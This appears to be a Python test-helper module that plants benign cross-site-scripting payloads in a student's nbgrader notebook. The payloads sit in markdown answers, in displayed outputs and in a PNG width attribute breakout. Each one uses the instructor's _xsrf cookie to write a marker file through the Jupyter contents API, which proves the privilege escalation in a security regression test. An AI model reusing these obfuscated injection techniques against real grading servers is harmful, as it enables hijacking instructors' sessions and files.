"""A hand-in that attacks whoever reads it (issue 37, "nothing of the instructor read"), and what it did.

A learner's notebook is shown to the instructor as HTML on the instructor's own Jupyter server: formgrader's
manual-grading page (nbconvert's HTMLExporter, nbgrader's 'formgrade' template), the feedback nbgrader renders
from it. Script that runs there has the instructor's cookies, so it can call the server's API as them. Each
payload below is harmless and observable: it records its key in ``window.top.__pkv``, sets the tab's title and
writes ``pkv-pwned-<key>.txt`` at the top of the instructor's server through the contents API (with the
``_xsrf`` cookie, as a real attack would), which is the proof that it had the instructor's power.

Where each one sits: the written answer (markdown: ``md-*``), and outputs that the learner's code makes when it
runs, so that autograde makes them again (``out-*``): HTML, JavaScript and Markdown outputs, and a PNG whose
``width`` metadata breaks out of nbconvert's unquoted ``width=`` attribute.
"""
from __future__ import annotations

import copy
import time

MARKER = "pkv-pwned-"
"""Each payload that ran writes ``<MARKER><key>.txt`` at the top of the instructor's server."""
ANSWER_TEXT = "My written answer: the reserved tail block is what goes unused"
"""Plain text in the written answer, which the instructor must still see."""
MARKDOWN_KEYS = ("md-img", "md-svg", "md-link", "md-iframe", "md-script", "md-details")
OUTPUT_KEYS = ("out-html", "out-script", "out-js", "out-md", "out-width")
PNG = ("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5ErkJggg==")

_JS = """(function(k){var t=window,p=location.pathname;try{t=window.top;p=t.location.pathname;}catch(e){}
try{(t.__pkv=t.__pkv||[]).push(k);t.document.title='pwned '+k;}catch(e){}
var base=p.replace(/\\/(formgrader|files|lab|tree|notebooks|view)(\\/.*)?$/,'/');
var x=(document.cookie.match(/(?:^|; )_xsrf=([^;]*)/)||[])[1]||'';
fetch(base+'api/contents/MARKER'+k+'.txt',{method:'PUT',credentials:'same-origin',
headers:{'X-XSRFToken':decodeURIComponent(x),'Content-Type':'application/json'},
body:JSON.stringify({type:'file',format:'text',content:k})});})('KEY')"""


def js(key: str) -> str:
    """The payload's script, as an expression with no quote, space or slash (it fits an unquoted attribute)."""
    code = _JS.replace("MARKER", MARKER).replace("KEY", key).replace("\n", "")
    return "eval(decodeURIComponent(/" + "".join(f"%{b:02X}" for b in code.encode()) + "/.source))"


def written_answer(first_line: str) -> str:
    """The written answer: its ``ANSWER`` line, plain text, then raw HTML that runs script in an unsanitised page
    (a ``javascript:`` URL is percent-decoded before it runs: its ``%`` are encoded once more)."""
    return (f"{first_line}\n\n{ANSWER_TEXT}. <img src=x onerror={js('md-img')}> <svg onload={js('md-svg')}></svg> "
            f"<a id=pkv-link href=\"javascript:{js('md-link').replace('%', '%25')}\">see my working</a> "
            f"<iframe srcdoc=\"<script>{js('md-iframe')}</script>\"></iframe>\n\n"
            f"<script>{js('md-script')}</script>\n\n<details open ontoggle={js('md-details')}>working</details>\n")


def output_code() -> str:
    """Code the learner adds to an answer cell: when it runs (as autograde runs it), it displays the ``out-*``
    payloads."""
    return ("\nfrom IPython.display import HTML, Javascript, Markdown, display\n"
            f"display(HTML('<img src=x onerror={js('out-html')}><script>{js('out-script')}</script>'))\n"
            f"display(Javascript('{js('out-js')}'))\n"
            f"display(Markdown('<img src=x onerror={js('out-md')}>'))\n"
            f"display({{'image/png': '{PNG}'}}, raw=True, metadata={{'image/png': "
            f"{{'width': '1 onload={js('out-width')}'}}}})\n")


def with_payloads(notebook: dict, code_answer: str = "q1_answer", written: str = "q8_answer") -> dict:
    """``notebook`` with the ``md-*`` payloads in its written answer ``written`` (its first line kept) and the
    code of the ``out-*`` payloads at the end of its code answer ``code_answer``."""
    nb = copy.deepcopy(notebook)
    cells = {c["metadata"].get("nbgrader", {}).get("grade_id"): c for c in nb["cells"]}
    md = cells[written]
    md["source"] = written_answer("".join(md["source"]).split("\n", 1)[0])
    code = cells[code_answer]
    code["source"] = "".join(code["source"]).rstrip("\n") + "\n" + output_code()
    return nb


def ran(page, settle_ms: int = 3000) -> list[str]:
    """The keys of the payloads that ran in ``page`` (after ``settle_ms`` for their requests to land)."""
    page.wait_for_timeout(settle_ms)
    return list(page.evaluate("() => window.__pkv || []"))


def visit(page, url: str, shot=None, referer: str | None = None) -> dict:
    """Open ``url`` in ``page`` as the instructor would (from ``referer``, as a link in JupyterLab), click the
    answer's link if there is one (an instructor following a learner's "see my working"), and return what ran:
    keys, the tab's title, the text shown."""
    page.goto(url, referer=referer)
    page.wait_for_load_state("load")
    link = page.locator("a#pkv-link")
    if link.count():
        try:
            link.first.click(timeout=5000)
        except Exception:   # not clickable (hidden or escaped away): nothing to follow
            pass
    keys = ran(page)
    seen = {"url": url, "ran": keys, "title": page.title(), "text": page.inner_text("body")}
    if shot:
        page.screenshot(path=str(shot))
    return seen


def markers(names, wait_s: float = 0.0) -> list[str]:
    """The marker files among ``names`` (a callable listing the top of the instructor's server), waiting up to
    ``wait_s`` for late requests."""
    deadline = time.monotonic() + wait_s
    while True:
        found = sorted(n for n in names() if n.startswith(MARKER))
        if found or time.monotonic() >= deadline:
            return found
        time.sleep(0.5)


def made_outputs() -> list[dict]:
    """The outputs :func:`output_code` makes when it runs (as nbformat writes them), for a test without a kernel."""
    def shown(data, metadata=None):
        return {"output_type": "display_data", "data": {"text/plain": "<display>", **data}, "metadata": metadata or {}}
    return [shown({"text/html": f"<img src=x onerror={js('out-html')}><script>{js('out-script')}</script>"}),
            shown({"application/javascript": js("out-js")}),
            shown({"text/markdown": f"<img src=x onerror={js('out-md')}>"}),
            shown({"image/png": PNG}, {"image/png": {"width": f"1 onload={js('out-width')}"}})]
